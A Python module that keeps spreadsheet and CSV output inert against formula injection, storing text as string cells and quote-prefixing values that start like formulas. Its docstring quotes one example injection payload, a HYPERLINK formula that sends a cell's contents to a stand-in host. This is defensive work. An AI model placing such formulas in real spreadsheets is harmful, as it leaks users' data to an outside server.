"""Everything the tool writes into a spreadsheet or a CSV file is inert: text stays text.

A value such as ``=HYPERLINK("http://x/?d="&B1,"Klik hier")`` (a name in the register, an
auditor given on the command line) must never become a live formula or a DDE call in the
office's Excel. One rule for every writer:

- openpyxl cells (:func:`set_cell`, :func:`append_row`): a text is stored as a string cell
  (``data_type`` ``s``), and a text that starts like a formula also gets Excel's
  ``quotePrefix`` style, so Excel shows it as typed and keeps it text when it is edited.
  The readers (``records/xlsx.py``) read such a cell back exactly as it was written.
- CSV (:func:`csv_value`): the OWASP rule — a text that starts with ``=``, ``+``, ``-``,
  ``@``, a tab or a carriage return (or their full-width forms) gets a single quote in
  front, which spreadsheet programs show as text.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: First characters that make a spreadsheet program read a cell as a formula (OWASP CSV
#: injection), with the full-width forms some programs treat alike.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formula_like(value: Any) -> bool:
    """True for a text a spreadsheet program would take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_value(value: Any) -> Any:
    """``=1+1`` → ``'=1+1``; anything else unchanged."""
    return "'" + value if formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def set_cell(cell: Any, value: Any) -> Any:
    """Put ``value`` into an openpyxl cell; a text is always a text cell, never a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if formula_like(value):
            cell.quotePrefix = True
    return cell


def append_row(sheet: Any, values: Iterable[Any]) -> int:
    """``sheet.append`` that keeps every text inert. Returns the row number written."""
    values = list(values)
    sheet.append(values)
    row = int(sheet._current_row)  # the row append just wrote
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            set_cell(sheet.cell(row, column), value)
    return row
